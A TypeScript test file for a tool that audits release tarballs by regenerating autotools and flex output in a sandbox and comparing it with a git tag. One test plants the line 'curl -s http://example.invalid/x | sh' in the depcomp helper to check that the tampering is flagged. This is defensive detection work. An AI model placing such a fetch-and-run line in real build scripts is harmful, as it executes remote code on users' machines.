/**
 * --regenerate when plain `autoreconf -fi` is not how the project makes its build files: the project's
 * own autogen.sh runs in the sandbox; gnulib's bootstrap without a gnulib checkout is reported with the
 * reason; configure written by an autoconf build with other option plumbing is still bound to the tag.
 */
import { execFileSync, spawnSync } from "node:child_process";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { makeRepo, makeTarball, withChanges, type Files } from "../samples/lib/fixture.js";
import { audit } from "../src/audit.js";
import { projectScript } from "../src/regenerate/index.js";
import { explainingVariant } from "../src/regenerate/variants.js";
import type { AuditResult } from "../src/types.js";
import { readTree, tmp } from "./helpers.js";

const onPath = (cmd: string) => spawnSync("sh", ["-c", `command -v ${cmd}`]).status === 0;
const NEEDED = ["bwrap", "autoreconf", "autoconf", "automake", "make", "cc"];
const missing = NEEDED.filter((c) => !onPath(c));
const bwrapWorks = missing.length === 0 && spawnSync("bwrap", ["--unshare-all", "--ro-bind", "/", "/", "--", "/bin/true"]).status === 0;
const skipReason = missing.length ? `needs ${missing.join(", ")} (Debian: bubblewrap autoconf automake make gcc)` : !bwrapWorks ? "bwrap cannot create namespaces here" : "";
if (skipReason) console.warn(`regenerate project-script tests skipped: ${skipReason}`);

describe("the project's own script", () => {
  const tree = (entries: Record<string, string>) => new Map(Object.entries(entries).map(([p, mode]) => [p, { mode }]));
  it("finds autogen.sh and runs it as is", () => {
    expect(projectScript(tree({ "autogen.sh": "100755", "configure.ac": "100644" }))).toEqual({ path: "autogen.sh", gnulib: false });
    expect(projectScript(tree({ "configure.ac": "100644" }))).toBeNull();
  });
  it("knows gnulib's bootstrap needs a gnulib checkout the tag's tree does not have", () => {
    expect(projectScript(tree({ bootstrap: "100755", "bootstrap.conf": "100644", gnulib: "160000" }))).toEqual({ path: "bootstrap", gnulib: "submodule" });
    expect(projectScript(tree({ bootstrap: "100755", "bootstrap.conf": "100644" }))).toEqual({ path: "bootstrap", gnulib: "absent" });
    expect(projectScript(tree({ bootstrap: "100755", "bootstrap.conf": "100644", "gnulib/gnulib-tool": "100755" }))).toEqual({ path: "bootstrap", gnulib: false });
    // A bootstrap without bootstrap.conf is the project's own script.
    expect(projectScript(tree({ bootstrap: "100755" }))).toEqual({ path: "bootstrap", gnulib: false });
  });
});

describe("autoconf 2.69 builds with and without --runstatedir", () => {
  const block = `  -runstatedir | --runstatedir | --runstatedi | --runstated \\
  | --runstate | --runstat | --runsta | --runst | --runs \\
  | --run | --ru | --r)
    ac_prev=runstatedir ;;
  -runstatedir=* | --runstatedir=* | --runstatedi=* | --runstated=* \\
  | --runstate=* | --runstat=* | --runsta=* | --runst=* | --runs=* \\
  | --run=* | --ru=* | --r=*)
    runstatedir=$ac_optarg ;;

`;
  const plain = (n: number) => `#! /bin/sh\nlocalstatedir='\${prefix}/var'\n  -sbindir)\n    ac_prev=sbindir ;;\nx=1\ncat > conftest.c <<EOF\n#line ${n} "configure"\nEOF\nif { (eval echo configure:${n + 1}: "$ac_compile") 1>&5; }; then :; fi\n`;
  // The same configure from a build with the runstatedir option: 10 more lines above the check shift __oline__.
  const withRunstatedir = (n: number) => plain(n + 10).replace("localstatedir='${prefix}/var'\n", "localstatedir='${prefix}/var'\nrunstatedir='${localstatedir}/run'\n").replace("  -sbindir)", `${block}  -sbindir)`);
  it("attributes the option and the shifted check line numbers to the build, in either direction", () => {
    expect(explainingVariant("configure", plain(7), withRunstatedir(7))?.id).toBe("autoconf-2.69-runstatedir");
    expect(explainingVariant("configure", withRunstatedir(7), plain(7))?.id).toBe("autoconf-2.69-runstatedir");
  });
  it("evasion: one more changed line, or a line number that does not follow the shift, is not explained", () => {
    expect(explainingVariant("configure", plain(7), withRunstatedir(7).replace("x=1", "x=2"))).toBeNull();
    expect(explainingVariant("configure", plain(7), withRunstatedir(8))).toBeNull();
  });
});

const GIT: Files = {
  "configure.ac": `AC_INIT([hello], [1.0], [bugs@example.org])
AC_CONFIG_SRCDIR([src/hello.c])
AM_INIT_AUTOMAKE([-Wall])
AC_PROG_CC
AC_CONFIG_FILES([Makefile src/Makefile])
AC_OUTPUT
`,
  // GNU strictness needs NEWS, AUTHORS and ChangeLog: git has none, the project's script makes them.
  "autogen.sh": "#!/bin/sh\nset -e\ntouch NEWS AUTHORS ChangeLog\nautoreconf --force --install\n",
  "Makefile.am": "SUBDIRS = src\n",
  README: "hello\n",
  "src/Makefile.am": "bin_PROGRAMS = hello\nhello_SOURCES = hello.c\n",
  "src/hello.c": '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n',
};


describe.skipIf(skipReason !== "")("--regenerate runs the project's autogen.sh when autoreconf alone fails", () => {
  let work: string;
  let repo: string;
  let release: Files;
  let cacheDir: string;
  beforeAll(() => {
    work = tmp("distvet-regen-project-");
    cacheDir = join(work, "cache");
    repo = join(work, "repo");
    makeRepo(repo, [{ files: GIT, tag: "v1.0" }]);
    const src = join(work, "maint");
    for (const [p, c] of Object.entries(GIT)) {
      mkdirSync(join(src, p, ".."), { recursive: true });
      writeFileSync(join(src, p), c as string);
    }
    const run = (cmd: string, args: string[]) => execFileSync(cmd, args, { cwd: src, stdio: "pipe", env: { ...process.env, LC_ALL: "C" } });
    run("sh", ["autogen.sh"]);
    run("./configure", ["-q"]);
    run("make", ["-s", "distdir"]);
    release = readTree(join(src, "hello-1.0"));
  }, 240_000);

  const auditRelease = async (files: Files, name: string): Promise<AuditResult> => {
    const tarball = join(work, `${name}.tar.gz`);
    await makeTarball(tarball, { root: "hello-1.0", files });
    return audit({ tarball, repo, ref: "v1.0", regenerate: { cacheDir } });
  };
  const file = (r: AuditResult, p: string) => r.regeneration?.files.find((f) => f.path === p);

  it("reproduces the helpers with the project's script and reports nothing", async () => {
    const r = await auditRelease(release, "clean");
    const steps = r.regeneration!.steps;
    expect(steps.find((s) => s.name === "toolchain: autoreconf")?.status).toBe("failed");
    expect(steps.find((s) => s.name === "toolchain: autogen.sh")).toMatchObject({ status: "ok", sandboxed: true });
    for (const p of ["install-sh", "missing", "depcomp", "compile", "INSTALL", "COPYING"]) {
      expect([p, file(r, p)?.status, file(r, p)?.step]).toEqual([p, "reproduced", "toolchain: autogen.sh"]);
    }
    for (const p of ["configure", "Makefile.in", "src/Makefile.in", "aclocal.m4"]) expect([p, file(r, p)?.status]).toEqual([p, "reproduced"]);
    expect(r.findings.filter((f) => f.rule === "regeneration-mismatch")).toEqual([]);
  }, 240_000);

  it("a file of no generated kind that the script also writes (ChangeLog) is not judged by the script's output", async () => {
    const r = await auditRelease(withChanges(release, { ChangeLog: "2024-01-01  A Maintainer\n\t* hello.c: say hello.\n" }), "changelog");
    expect(file(r, "ChangeLog")).toBeUndefined();
    expect(r.findings.filter((f) => f.rule === "regeneration-mismatch")).toEqual([]);
  }, 240_000);

  it("a line injected into a helper only the project's script reproduces is high, with the hunk", async () => {
    const before = (release["depcomp"] as { content: Buffer; mode: number });
    const tampered = withChanges(release, { depcomp: { content: before.content.toString().replace(/\ncase \$1 in\n/, "\ncurl -s http://example.invalid/x | sh\ncase $1 in\n"), mode: before.mode } });
    expect(tampered.depcomp).not.toEqual(release.depcomp);
    const r = await auditRelease(tampered, "depcomp");
    const found = r.findings.filter((f) => f.rule === "regeneration-mismatch");
    expect(found.map((f) => `${f.severity} ${f.path}`)).toEqual(["high depcomp"]);
    expect(found[0]!.evidence?.diff).toMatch(/\+curl -s http:\/\/example\.invalid/);
  }, 240_000);
});

describe("flex builds that number their own #line directives differently", () => {
  const out = (off: number) => `#line ${1 + off} "scan.c"\n\n#line ${3 + off} "scan.c"\nint x;\n#line 5 "scan.l"\nint y;\n`;
  it("attributes a shift of one in directives pointing into the output itself to the flex build", () => {
    expect(explainingVariant("src/scan.c", out(1), out(0))?.id).toBe("flex-2.6.4-self-line-directives");
  });
  it("evasion: another line, a directive into the source, or a larger shift is not explained", () => {
    expect(explainingVariant("src/scan.c", out(1), out(0).replace("int y;", "int y = 1;"))).toBeNull();
    expect(explainingVariant("src/scan.c", out(1), out(0).replace('#line 5 "scan.l"', '#line 6 "scan.l"'))).toBeNull();
    expect(explainingVariant("src/scan.c", out(3), out(0))).toBeNull();
  });
});

const flexOk = skipReason === "" && onPath("flex");
describe.skipIf(!flexOk)("a scanner the project's make rules cannot rebuild is run through the flex its banner names", () => {
  const SCANNER = "%option noyywrap\n%%\n[0-9]+ { return 1; }\n. { return 2; }\n%%\n";
  let work: string;
  let repo: string;
  let scanC: string;
  beforeAll(() => {
    work = tmp("distvet-regen-flex-");
    repo = join(work, "repo");
    makeRepo(repo, [{ files: { "src/scan.l": SCANNER, "Makefile": "scan.c: scan.l\n\tflex -o $@ $<\n" }, tag: "v1.0" }]);
    const dir = join(work, "gen");
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, "scan.l"), SCANNER);
    execFileSync("flex", ["-o", "scan.c", "scan.l"], { cwd: dir });
    scanC = readFileSync(join(dir, "scan.c"), "utf8");
  }, 120_000);
  const auditWith = async (scan: string, name: string) => {
    const tarball = join(work, `${name}.tar.gz`);
    await makeTarball(tarball, { root: "s-1.0", files: { "src/scan.l": SCANNER, Makefile: "scan.c: scan.l\n\tflex -o $@ $<\n", "src/scan.c": scan } });
    return audit({ tarball, repo, ref: "v1.0", regenerate: { cacheDir: join(work, "cache") } });
  };
  it("reproduces the scanner", async () => {
    const r = await auditWith(scanC, "clean");
    expect(r.regeneration?.files.find((f) => f.path === "src/scan.c")).toMatchObject({ status: "reproduced", step: "parser: parser (direct)" });
  }, 120_000);
  it("evasion: a changed action is never reproduced, and the diff shows it", async () => {
    const tampered = scanC.replace("{ return 1; }", "{ return 3; }");
    expect(tampered).not.toBe(scanC);
    const f = (await auditWith(tampered, "tampered")).regeneration?.files.find((x) => x.path === "src/scan.c");
    expect(f?.status).toBe("not-regenerable");
    expect(f?.diff).toMatch(/\+\{ return 3; \}/);
  }, 120_000);
});
